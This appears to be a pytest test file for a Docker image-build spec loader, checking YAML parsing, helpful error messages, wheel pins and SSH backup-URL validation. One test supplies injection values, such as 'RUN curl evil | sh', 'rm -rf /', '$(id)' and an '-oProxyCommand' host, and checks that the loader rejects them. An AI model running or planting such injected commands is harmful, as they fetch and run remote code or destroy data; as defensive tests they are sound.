from __future__ import annotations

from pathlib import Path

import pytest

from imagebuild.errors import SpecError
from imagebuild.spec import load_spec, spec_from_text

from .conftest import REPO, SPEC, Stack


def test_real_stack_loads_with_lineage_and_short_names() -> None:
    spec = load_spec(REPO / "imagebuild.yaml")
    assert list(spec.images) == ["vllm-node", "vllm-node-tf5", "vllm-node-mimo"]
    assert spec.resolve("mimo") == "vllm-node-mimo"
    assert spec.resolve("tf5") == "vllm-node-tf5"
    assert spec.resolve("vllm-node") == "vllm-node"
    assert spec.closure(["mimo"]) == ["vllm-node", "vllm-node-tf5", "vllm-node-mimo"]
    assert spec.closure(["tf5"]) == ["vllm-node", "vllm-node-tf5"]
    node = spec.images["vllm-node"]
    assert node.base == "nvidia/cuda:13.2.0-devel-ubuntu24.04"
    assert spec.images["vllm-node-tf5"].requires == ("transformers>=4.57,<5",)
    assert spec.overrides_for("mimo")["transformers"].requirement == "transformers>=5.0.0"
    assert spec.overrides_for("mimo")["torch"].requirement == "torch==2.11.0+cu130"
    assert "torch" in spec.overrides_for("vllm-node") and "transformers" not in \
        spec.overrides_for("tf5")
    assert spec.target.python == "3.12" and spec.target.platform == "aarch64-manylinux_2_28"
    gate = spec.checks["torch-gate"]
    # the gate takes torch's version from the lock: the pin lives in one place
    assert gate.kind == "output" and gate.expected == "{torch.version} {torch.cuda}"
    assert spec.overrides_for("mimo")["torch"].covers == ("vllm",)
    assert "import torch" in gate.run[-1]
    assert spec.checks["transformers-5"].expected == ">=5.0.0"
    assert spec.checks["vllm-locked"].kind == "locked"
    assert [w.address for w in spec.cluster.workers][:1] == ["192.168.100.11"]
    assert spec.backups is not None and spec.backups.local is not None
    assert spec.backups.local.name == "docker-images"


def _fails(stack: Stack, text: str) -> SpecError:
    stack.write_spec(text)
    with pytest.raises(SpecError) as info:
        stack.load()
    assert info.value.exit_code == 2
    return info.value


def test_malformed_yaml_names_file_and_line(stack: Stack) -> None:
    err = _fails(stack, SPEC.replace("  vllm-node-tf5:\n", "  vllm-node-tf5: [\n"))
    assert f"{stack.spec_path}:" in str(err)
    assert "malformed YAML" in str(err)


def test_unknown_key_suggests_the_right_one(stack: Stack) -> None:
    err = _fails(stack, SPEC.replace("    template: vllm-node-tf5", "    tempalte: vllm-node-tf5"))
    line = SPEC.splitlines().index("    template: vllm-node-tf5.Dockerfile.j2") + 1
    assert f"imagebuild.yaml:{line}:" in str(err)
    assert "did you mean 'template'" in str(err)


def test_unknown_image_name_suggests(stack: Stack) -> None:
    spec = stack.load()
    with pytest.raises(SpecError, match="did you mean 'mimo'"):
        spec.resolve("mimmo")


def test_unknown_parent_and_cycle(stack: Stack) -> None:
    _fails(stack, SPEC.replace("parent: vllm-node-tf5", "parent: vllm-node-tf6"))
    cyc = SPEC.replace("    base: example/base:1\n", "    parent: vllm-node-mimo\n")
    err = _fails(stack, cyc)
    assert "cycle" in str(err) and "vllm-node-mimo" in str(err)


def test_wheel_not_declared(stack: Stack) -> None:
    err = _fails(stack, SPEC.replace("wheels: [vllm, flashinfer-python]",
                                     "wheels: [vllm, flashinfer-pyhton]"))
    assert "flashinfer-pyhton" in str(err) and "did you mean 'flashinfer-python'" in str(err)


def test_wheel_filename_that_does_not_parse(stack: Stack) -> None:
    err = _fails(stack, SPEC.replace("extra_mimo-1.0-py3-none-any.whl", "extra_mimo-any.whl"))
    assert "does not parse" in str(err)


def test_each_declared_wheel_carries_its_project_and_version_from_its_file_name() -> None:
    # read once where the spec is read: nothing downstream parses a declared file name
    spec = load_spec(REPO / "imagebuild.yaml")
    torch = next(d for d in spec.wheels if d.filename.startswith("torch-"))
    assert (torch.name, torch.version) == ("torch", "2.11.0+cu130")
    assert all(d.name and d.version and d.filename.startswith(d.name.replace("-", "_"))
               for d in spec.wheels)


@pytest.mark.parametrize("old,new", [
    ("uv: uv\n", 'uv: "uv\\nRUN curl evil | sh"\n'),
    ('requires: ["transformers>=4.57,<5"]', 'requires: ["transformers>=5\\rRUN x"]'),
    ("requirement: transformers>=5.0.0", 'requirement: "transformers>=5\\nRUN x"'),
    ("      uv: uv\n", '      uv: uv\n      apt_packages: ["curl\\nRUN rm -rf /"]\n'),
    ("      uv: uv\n", '      uv: uv\n      env: {A: "x\\nRUN y"}\n'),
    ("      uv: uv\n", '      uv: uv\n      env: {A: "$(id)"}\n'),
    ("      uv: uv\n", '      uv: uv\n      apt_packages: ["curl; rm -rf /"]\n'),
    ("      uv: uv\n", '      uv: uv\n      pip_index: "http://x/ --trusted-host y"\n'),
    ("base: example/base:1", 'base: "example/base:1\\nRUN id"'),
])
def test_values_that_could_inject_into_a_dockerfile_are_refused(stack: Stack, old: str,
                                                                new: str) -> None:
    assert old in SPEC
    err = _fails(stack, SPEC.replace(old, new, 1))
    assert str(stack.spec_path) in str(err)


def test_check_needs_exactly_one_expectation(stack: Stack) -> None:
    err = _fails(stack, SPEC.replace('    expect: "2.11.0+cu130 13.0"\n',
                                     '    expect: "2.11.0+cu130 13.0"\n    succeeds: true\n'))
    assert "exactly one expectation" in str(err)


def test_missing_spec_file(tmp_path: Path) -> None:
    with pytest.raises(SpecError, match="not found"):
        load_spec(tmp_path / "nope.yaml")


def test_env_var_expansion_with_default(stack: Stack, monkeypatch: pytest.MonkeyPatch) -> None:
    stack.write_spec(SPEC.replace("state: state", "state: ${IB_TEST_STATE:-fallback}"))
    monkeypatch.delenv("IB_TEST_STATE", raising=False)
    assert stack.load().state_dir == stack.root / "fallback"
    monkeypatch.setenv("IB_TEST_STATE", "/srv/x")
    assert stack.load().state_dir == Path("/srv/x")
    stack.write_spec(SPEC.replace("state: state", "state: ${IB_TEST_UNSET_VAR}/x"))
    monkeypatch.delenv("IB_TEST_UNSET_VAR", raising=False)
    with pytest.raises(SpecError, match="IB_TEST_UNSET_VAR"):
        stack.load()


@pytest.mark.parametrize("url, says", [
    ("ssh://host:99999/backups", "Port out of range"),
    ("ssh://host:abc/backups", "is not ssh://[user@]host[:port]/absolute/path"),
    ("ssh://host:0/backups", "port 0 is not a TCP port"),
    ("ssh://host:/backups", "the port after ':' is missing"),
    ("ssh://-oProxyCommand=x/backups", "is not a valid host name"),
    ("ssh://Root Admin@host/backups", "is not a valid user name"),
    ("ssh://-l@host/backups", "is not a valid user name"),
    ("ssh://host", "must be an absolute path"),
    ("ssh://host/", "must be an absolute path"),
    ("ssh://user:secret@host/backups", "no password"),
    ("ssh://host/backups?x=1", "no password, query or fragment"),
])
def test_a_bad_ssh_backup_url_is_a_spec_error_at_load(stack: Stack, url: str,
                                                      says: str) -> None:
    err = _fails(stack, SPEC + f"backups:\n  directory: {url!r}\n")
    line = len(SPEC.splitlines()) + 2
    assert f"imagebuild.yaml:{line}: backups.directory" in str(err), str(err)
    assert says in str(err)


def test_an_ssh_backup_url_is_parsed_into_its_parts(stack: Stack) -> None:
    from imagebuild.spec import SshLocation

    stack.write_spec(SPEC + "backups:\n  directory: ssh://spark@control:2201/srv/images/\n")
    backups = stack.load().backups
    assert backups is not None and backups.local is None
    assert backups.location == SshLocation(host="control", path="/srv/images", user="spark",
                                           port=2201)
    assert str(backups.location) == "ssh://spark@control:2201/srv/images"


def test_a_schema_1_spec_is_told_what_changed(stack: Stack) -> None:
    err = _fails(stack, SPEC.replace("schema: 2\n", "schema: 1\n"))
    assert "schema 1 predates the closure locks" in str(err)
    assert err.hint is not None and "target:" in err.hint and "imagebuild lock" in err.hint
    err = _fails(stack, SPEC.replace("target: {python: \"3.12\", platform: "
                                     "aarch64-manylinux_2_28}\n", ""))
    assert "target" in str(err)
    err = _fails(stack, SPEC.replace("reason: mimo needs transformers 5", "reason: ''"))
    assert "say why the override exists" in str(err)
    err = _fails(stack, SPEC.replace("python: \"3.12\"", "python: 3.10"))
    assert "YAML reads an unquoted 3.10 as 3.1" in str(err)


def test_the_real_specs_build_entries_and_builder_spec_are_valid_when_filled() -> None:
    # the commented-out wheels.build of the real spec, filled as its steps say, loads;
    # the builder spec it points at loads and builds its builder from the lock's torch
    real = REPO / "imagebuild.yaml"
    text = real.read_text()
    start = text.index("  # build:\n")
    block = text[start:text.index("\n\n", start)]
    filled = "\n".join(line.replace("  # ", "  ", 1) for line in block.splitlines()[0:])
    filled = (filled.replace("<the full 40-digit id: --resolve fills it>", "a" * 40)
              .replace("<hash12>", "0123456789ab"))
    text = text.replace(block, filled)
    for local in ("    - vllm-0.22.1rc1.dev124+gace95c9cf.d20260603.cu132-cp312-cp312-linux_"
                  "aarch64.whl\n", "    - flashinfer_python-0.6.12-py3-none-any.whl\n"):
        text = text.replace(local, "")
    spec = spec_from_text(text, real)
    assert sorted(spec.built) == ["flashinfer-python", "vllm"]
    assert spec.built["vllm"].builder_reference == "vllm-builder:0123456789ab"
    assert spec.built["flashinfer-python"].submodules  # 3rdparty/cutlass and the rest
    builder = load_spec(REPO / "builder" / "imagebuild.yaml")
    assert builder.images["vllm-builder"].torch == "torch"
    assert builder.images["vllm-builder"].base_reference.startswith(
        "nvidia/cuda:13.2.0-devel")
    env = dict(builder.images["vllm-builder"].params.env)
    assert env["TORCH_CUDA_ARCH_LIST"] == "12.1a" and "MAX_JOBS" in env
    assert builder.checks["torch-gate"].expected == "{torch.version} {torch.cuda}"


@pytest.mark.parametrize("value, ok", [
    ("sha256:" + "a" * 64, True),
    ("example/base@sha256:" + "a" * 64, True),  # as docker inspect's RepoDigests prints it
    ("docker.io/example/base@sha256:" + "a" * 64, True),
    ("other/base@sha256:" + "a" * 64, False),  # another image's digest
    ("example/base@sha512:" + "a" * 128, False),
    ("example/base:1", False),
])
def test_base_digest_takes_what_docker_inspect_prints(stack: Stack, value: str,
                                                      ok: bool) -> None:
    stack.write_spec(SPEC.replace("    base: example/base:1\n",
                                  f"    base: example/base:1\n    base_digest: \"{value}\"\n", 1))
    if ok:
        img = stack.load().images["vllm-node"]
        assert img.base_reference == "example/base:1@sha256:" + "a" * 64
        return
    with pytest.raises(SpecError) as info:
        stack.load()
    assert "base_digest" in str(info.value) and info.value.exit_code == 2


def test_a_missing_inventory_leaves_the_spec_usable_where_no_worker_is_needed(
        stack: Stack, tmp_path: Path) -> None:
    from imagebuild import context

    stack.write_spec(SPEC + f"cluster:\n  inventory: {tmp_path}/not-yet.yaml\n"
                            f"backups:\n  directory: backups\n")
    spec = stack.load()  # plan, render, lock and build need no worker
    assert spec.cluster.workers == () and "not-yet.yaml does not exist" in (
        spec.cluster.unavailable or "")
    context.backup_store(spec)  # a local store needs no cluster
    for arg in (None, "2", "w1"):
        with pytest.raises(SpecError, match="does not exist, so no worker is known") as info:
            context.select_workers(spec, arg)
        assert info.value.exit_code == 2 and "testbed up" in (info.value.hint or "")
    with pytest.raises(SpecError, match="no worker is known"):
        context.workers_for(spec, None)  # status asks every worker: it says why it cannot
    # an inventory that exists but cannot be read is still refused when the spec loads
    (tmp_path / "not-yet.yaml").mkdir()
    with pytest.raises(SpecError, match="cannot read"):
        stack.load()
